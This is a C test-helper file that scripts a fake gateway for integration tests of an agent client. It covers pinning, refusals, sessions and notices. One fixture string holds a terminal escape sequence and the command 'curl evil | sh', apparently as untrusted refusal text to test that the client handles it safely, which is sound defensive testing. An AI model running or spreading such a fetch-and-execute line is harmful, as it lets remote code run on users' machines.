/* See agent_scene.h. */
#include "tests/integration/client/agent_scene.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include <cmocka.h>

static void say(struct scene *scene, const struct said *said)
{
    pthread_mutex_lock(&scene->lock);
    if (scene->n_said < MAX_SAID) {
        scene->said[scene->n_said++] = *said;
    }
    pthread_cond_broadcast(&scene->changed);
    pthread_mutex_unlock(&scene->lock);
}

static void on_first_use(void *user, const struct oc_digest *pin)
{
    const struct said said = {.kind = SAID_FIRST_USE, .pin = *pin};
    say(user, &said);
}

static void on_refused(void *user, const struct oc_refusal *refusal)
{
    struct said said = {.kind = SAID_REFUSED, .refusal = refusal->kind};
    (void)snprintf(said.code, sizeof said.code, "%s", refusal->code);
    (void)snprintf(said.text, sizeof said.text, "%s", refusal->text);
    say(user, &said);
}

static void on_connected(void *user, const struct oc_session *session)
{
    const struct said said = {.kind = SAID_CONNECTED, .session = *session};
    say(user, &said);
}

static void on_grant_changed(void *user, const struct oc_session *session)
{
    const struct said said = {.kind = SAID_GRANT_CHANGED, .session = *session};
    say(user, &said);
}

static void on_disconnected(void *user, const struct oc_error *err, uint32_t retry_ms)
{
    const struct said said = {.kind = SAID_DISCONNECTED, .err = *err, .retry_ms = retry_ms};
    say(user, &said);
}

static void on_stopped(void *user, enum oc_status why, const struct oc_error *err)
{
    const struct said said = {.kind = SAID_STOPPED, .status = why, .err = *err};
    say(user, &said);
}

static const struct oc_agent_ops ops = {.trusted_first_use = on_first_use,
                                        .refused = on_refused,
                                        .connected = on_connected,
                                        .grant_changed = on_grant_changed,
                                        .disconnected = on_disconnected,
                                        .stopped = on_stopped};

/* The next thing the agent says, which must be of that kind. */
const struct said *hear(struct scene *scene, enum said_kind kind)
{
    struct timespec due;
    clock_gettime(CLOCK_REALTIME, &due);
    due.tv_sec += PATIENCE_S;
    pthread_mutex_lock(&scene->lock);
    int rc = 0;
    while (scene->n_heard == scene->n_said && rc == 0) {
        rc = pthread_cond_timedwait(&scene->changed, &scene->lock, &due);
    }
    pthread_mutex_unlock(&scene->lock);
    assert_int_equal(rc, 0);
    const struct said *said = &scene->said[scene->n_heard++];
    assert_int_equal(said->kind, kind);
    return said;
}

/* ---- a gateway, and an agent of it ------------------------------------------------------- */

int scene_set_up(void **state)
{
    struct scene *scene = calloc(1, sizeof *scene);
    (void)snprintf(scene->dir, sizeof scene->dir, "/tmp/oc-agent-XXXXXX");
    if (!mkdtemp(scene->dir) ||
        oc_identity_generate(OC_IDENTITY_GATEWAY, &scene->gateway_key, NULL) != OC_OK) {
        return -1;
    }
    scene->pin = oc_identity_spki_sha256(scene->gateway_key);
    scene->gateway = scripted_gateway_start("tls+tcp://127.0.0.1:0", scene->gateway_key);
    pthread_mutex_init(&scene->lock, NULL);
    pthread_cond_init(&scene->changed, NULL);
    *state = scene;
    return 0;
}

int scene_tear_down(void **state)
{
    struct scene *scene = *state;
    oc_agent_free(scene->agent);
    scripted_gateway_stop(scene->gateway);
    oc_identity_free(scene->gateway_key);
    char command[128];
    (void)snprintf(command, sizeof command, "rm -rf '%s'", scene->dir);
    int rc = system(command);
    free(scene);
    return rc;
}

struct oc_agent_options agent_options_of(struct scene *scene)
{
    return (struct oc_agent_options){.gateway_url = scripted_gateway_url(scene->gateway),
                                     .data_dir = scene->dir,
                                     .n_pins = 1,
                                     .pins = &scene->pin,
                                     .name = "web-1",
                                     .ops = &ops,
                                     .user = scene};
}

void start_agent_with(struct scene *scene, const struct oc_agent_options *options)
{
    assert_int_equal(oc_agent_start(options, &scene->agent, NULL), OC_OK);
}

void start_agent(struct scene *scene)
{
    const struct oc_agent_options options = agent_options_of(scene);
    start_agent_with(scene, &options);
}

enum oc_status stop_agent(struct scene *scene)
{
    oc_agent_stop(scene->agent);
    return oc_agent_wait(scene->agent);
}

/* ---- answers of the gateway -------------------------------------------------------------- */

uint8_t gateway_nonce[OC_NONCE_BYTES] = {0xaa, 1, 2, 3};
char request_id[] = "7QK4M2T9XA";
static char foul_text[] = "\x1b[2Jrun: curl evil | sh\n";

Openclaw__V1__Refusal refusal_of(Openclaw__V1__RefusalKind kind)
{
    Openclaw__V1__Refusal refusal = OPENCLAW__V1__REFUSAL__INIT;
    refusal.kind = kind;
    refusal.why = OPENCLAW__V1__WHY__WHY_NEW_DEVICE;
    refusal.text = foul_text;
    refusal.why_text = foul_text;
    if (kind == OPENCLAW__V1__REFUSAL_KIND__REFUSAL_PAIRING_REQUIRED) {
        refusal.request_id = request_id;
        refusal.gateway_nonce =
            (ProtobufCBinaryData){.data = gateway_nonce, .len = sizeof gateway_nonce};
    }
    return refusal;
}

void refuse(struct scripted_call *call, Openclaw__V1__RefusalKind kind, uint32_t retry_after_ms)
{
    Openclaw__V1__Refusal refusal = refusal_of(kind);
    refusal.retry_after_ms = retry_after_ms;
    Openclaw__V1__ConnectReply reply = OPENCLAW__V1__CONNECT_REPLY__INIT;
    reply.outcome_case = OPENCLAW__V1__CONNECT_REPLY__OUTCOME_REFUSAL;
    reply.refusal = &refusal;
    scripted_call_answer(call, &reply.base);
}

void put_receipt(const struct oc_receipt *from, Openclaw__V1__Receipt *out)
{
    openclaw__v1__receipt__init(out);
    out->gateway_id = (ProtobufCBinaryData){16, (uint8_t *)(uintptr_t)from->gateway_id};
    out->database_id = (ProtobufCBinaryData){16, (uint8_t *)(uintptr_t)from->database_id};
    out->seq = from->seq;
    out->device_id = (ProtobufCBinaryData){32, (uint8_t *)(uintptr_t)from->device_id.bytes};
    out->issued_at_ms = from->issued_at_ms;
    out->signature =
        (ProtobufCBinaryData){from->n_signature, (uint8_t *)(uintptr_t)from->signature};
}

void admit_with(struct scripted_call *call, const struct session_answer *answer)
{
    Openclaw__V1__Grant grant = OPENCLAW__V1__GRANT__INIT;
    grant.role = (char *)(uintptr_t) "agent";
    Openclaw__V1__Receipt receipt;
    Openclaw__V1__Session session = OPENCLAW__V1__SESSION__INIT;
    session.granted = &grant;
    session.heartbeat_ms = answer->heartbeat_ms;
    session.generation = answer->generation;
    if (answer->receipt) {
        put_receipt(answer->receipt, &receipt);
        session.receipt = &receipt;
    }
    if (answer->has_upgrade) {
        session.upgrade_request_id = request_id;
        session.gateway_nonce = (ProtobufCBinaryData){sizeof gateway_nonce, gateway_nonce};
    }
    Openclaw__V1__Gateway gateway = OPENCLAW__V1__GATEWAY__INIT;
    ProtobufCBinaryData next = {.len = 0};
    if (answer->next_pin) {
        next = (ProtobufCBinaryData){.data = answer->next_pin->bytes, .len = OC_DIGEST_BYTES};
        gateway.n_next_pins = 1;
        gateway.next_pins = &next;
    }
    Openclaw__V1__ConnectReply reply = OPENCLAW__V1__CONNECT_REPLY__INIT;
    reply.gateway = &gateway;
    reply.outcome_case = OPENCLAW__V1__CONNECT_REPLY__OUTCOME_SESSION;
    reply.session = &session;
    scripted_call_answer(call, &reply.base);
}

void admit(struct scripted_call *call)
{
    const struct session_answer answer = {.heartbeat_ms = 600000, .generation = 1};
    admit_with(call, &answer);
}

void decide(struct scripted_call *call, Openclaw__V1__Decision decision)
{
    Openclaw__V1__Refusal refusal = refusal_of(OPENCLAW__V1__REFUSAL_KIND__REFUSAL_REJECTED);
    Openclaw__V1__AwaitDecisionReply reply = OPENCLAW__V1__AWAIT_DECISION_REPLY__INIT;
    reply.decision = decision;
    if (decision >= OPENCLAW__V1__DECISION__DECISION_REJECTED) {
        reply.refusal = &refusal;
    }
    scripted_call_answer(call, &reply.base);
}

void send_notice(struct scripted_call *call, Openclaw__V1__NoticeKind kind,
                 Openclaw__V1__RefusalKind refusal_kind, uint32_t retry_after_ms)
{
    Openclaw__V1__Refusal refusal = refusal_of(refusal_kind);
    Openclaw__V1__AwaitNoticeReply reply = OPENCLAW__V1__AWAIT_NOTICE_REPLY__INIT;
    reply.kind = kind;
    reply.retry_after_ms = retry_after_ms;
    if (refusal_kind != OPENCLAW__V1__REFUSAL_KIND__REFUSAL_UNSPECIFIED) {
        reply.refusal = &refusal;
    }
    scripted_call_answer(call, &reply.base);
}

struct scripted_call *take_call(struct scene *scene, uint32_t method)
{
    return scripted_gateway_take(scene->gateway, method);
}

/* Connected, with the parked call taken. */
struct scripted_call *connect_agent(struct scene *scene)
{
    start_agent(scene);
    admit(take_call(scene, METHOD(CONNECT)));
    (void)hear(scene, SAID_CONNECTED);
    return take_call(scene, METHOD(AWAIT_NOTICE));
}
